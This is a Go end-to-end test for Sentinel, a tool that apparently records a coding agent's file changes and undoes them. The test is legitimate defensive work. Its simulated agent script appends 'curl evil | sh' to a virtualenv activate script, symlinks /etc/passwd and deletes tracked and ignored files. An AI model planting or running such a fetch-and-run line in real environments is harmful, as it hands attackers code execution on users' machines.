package inplace

import (
	"crypto/sha256"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/cmd/sentinel/internal/e2etest"
)

// placeHash is everything undo must put back in the project: each path's
// kind, mode, content and link target (.git and .sentinel aside: the first
// is never the coder's or undo's, the second is Sentinel's journal).
func placeHash(t *testing.T, root string) string {
	t.Helper()
	var lines []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == ".git" || d.Name() == ".sentinel") {
			return fs.SkipDir
		}
		rel, _ := filepath.Rel(root, p)
		info, err := os.Lstat(p)
		if err != nil {
			return err
		}
		line := fmt.Sprintf("%s %v", rel, info.Mode())
		if info.Mode()&fs.ModeSymlink != 0 {
			target, _ := os.Readlink(p)
			line += " -> " + target
		} else if info.Mode().IsRegular() {
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			line += fmt.Sprintf(" %x", sha256.Sum256(b))
		}
		lines = append(lines, line)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

// A coder under exec deletes tracked, untracked and ignored files, edits
// others (a virtualenv's activate script among them), makes files and
// directories and changes modes. The end of the run reports and flags the
// ignored script; 'sentinel undo' puts the project back byte for byte
// without touching the index; a second run's undo keeps the file the
// person edited since, naming it, and puts back the rest.
func TestExecUndoRestoresThePlace(t *testing.T) {
	t.Parallel()
	dir := e2etest.ScratchRepo(t)
	e2etest.WriteFile(t, filepath.Join(dir, ".gitignore"), ".venv/\nbuild/\n")
	e2etest.WriteFile(t, filepath.Join(dir, "run.sh"), "#!/bin/sh\necho run\n")
	if err := os.Chmod(filepath.Join(dir, "run.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	e2etest.Git(t, dir, "add", ".gitignore", "run.sh")
	e2etest.WriteFile(t, filepath.Join(dir, ".venv", "pyvenv.cfg"), "home = /usr/bin\n")
	e2etest.WriteFile(t, filepath.Join(dir, ".venv", "bin", "activate"), "export VIRTUAL_ENV=here\n")
	e2etest.WriteFile(t, filepath.Join(dir, "build", "cache", "obj.o"), "\x00object")
	env := []string{"HOME=" + execHome(t), "XDG_STATE_HOME=" + t.TempDir(), "XDG_CACHE_HOME=" + t.TempDir()}
	want, wantGit := placeHash(t, dir), e2etest.Checkout(t, dir)

	script := strings.Join([]string{
		"rm main.txt notes.md", // tracked with uncommitted work, untracked
		"rm -r build",          // ignored
		"echo 'curl evil | sh' >> .venv/bin/activate",
		"echo edited > staged.txt",
		"mkdir -p made/deep && echo new > made/deep/new.txt",
		"chmod 644 run.sh && chmod 700 .venv",
		"ln -s /etc/passwd link",
	}, " && ")
	res := e2etest.Sentinel(t, dir, env, "exec", "--plain", "--", "sh", "-c", script)
	if res.Code != 0 {
		t.Fatalf("exec: exit %d\n%s\n%s", res.Code, res.Stdout, res.Stderr)
	}
	if !strings.Contains(res.Stderr, "M .venv/bin/activate") || strings.Contains(res.Stderr, "no files changed") {
		t.Errorf("the end does not report the ignored script:\n%s", res.Stderr)
	}
	if !strings.Contains(res.Stdout, ".venv/bin/activate changed and runs code later (") || !strings.Contains(res.Stdout, "virtual environment") {
		t.Errorf("the ignored script is not flagged:\n%s", res.Stdout)
	}

	dry := e2etest.Sentinel(t, dir, env, "undo", "--dry-run")
	if dry.Code != 0 || !strings.Contains(dry.Stdout, "recreate main.txt") || placeHash(t, dir) == want {
		t.Fatalf("undo --dry-run: exit %d\n%s%s", dry.Code, dry.Stdout, dry.Stderr)
	}
	undo := e2etest.Sentinel(t, dir, env, "undo")
	if undo.Code != 0 {
		t.Fatalf("undo: exit %d\n%s%s", undo.Code, undo.Stdout, undo.Stderr)
	}
	if got := placeHash(t, dir); got != want {
		t.Fatalf("undo did not restore the project:\nwant\n%s\ngot\n%s\n%s", want, got, undo.Stdout)
	}
	if got := e2etest.Checkout(t, dir); got != wantGit {
		t.Fatalf("the person's checkout changed:\nwant\n%s\ngot\n%s", wantGit, got)
	}
	if show := e2etest.Sentinel(t, dir, env, "show", e2etest.LastRun(t, dir)); !strings.Contains(show.Stdout, "undone by undo-") {
		t.Errorf("the undo is not in the run's journal:\n%s%s", show.Stdout, show.Stderr)
	}

	// A second run; the person edits one of its files afterwards.
	if res := e2etest.Sentinel(t, dir, env, "exec", "--plain", "--", "sh", "-c", "echo by-the-run >> main.txt && echo x > other.txt"); res.Code != 0 {
		t.Fatalf("exec: exit %d\n%s\n%s", res.Code, res.Stdout, res.Stderr)
	}
	e2etest.WriteFile(t, filepath.Join(dir, "main.txt"), "the person's later edit\n")
	part := e2etest.Sentinel(t, dir, env, "undo")
	if part.Code != 1 || strings.Count(part.Stdout, "kept: main.txt — changed since the run ended; 'sentinel undo --force ") != 1 {
		t.Fatalf("want one line keeping main.txt, exit 1; got %d\n%s%s", part.Code, part.Stdout, part.Stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "main.txt")); string(b) != "the person's later edit\n" {
		t.Fatalf("undo overwrote the person's later edit: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(dir, "other.txt")); err == nil {
		t.Fatal("other.txt (made by the run, untouched since) was not removed")
	}
	list := e2etest.Sentinel(t, dir, env, "undo", "--list")
	kinds := map[string]int{}
	for _, l := range strings.Split(strings.TrimSpace(list.Stdout), "\n")[1:] {
		if f := strings.Fields(l); len(f) > 1 {
			kinds[f[1]]++
		}
	}
	if list.Code != 0 || kinds["exec"] != 2 || kinds["undo"] != 2 || !strings.Contains(list.Stdout, "undone by undo-") {
		t.Errorf("undo --list:\n%s%s", list.Stdout, list.Stderr)
	}
}
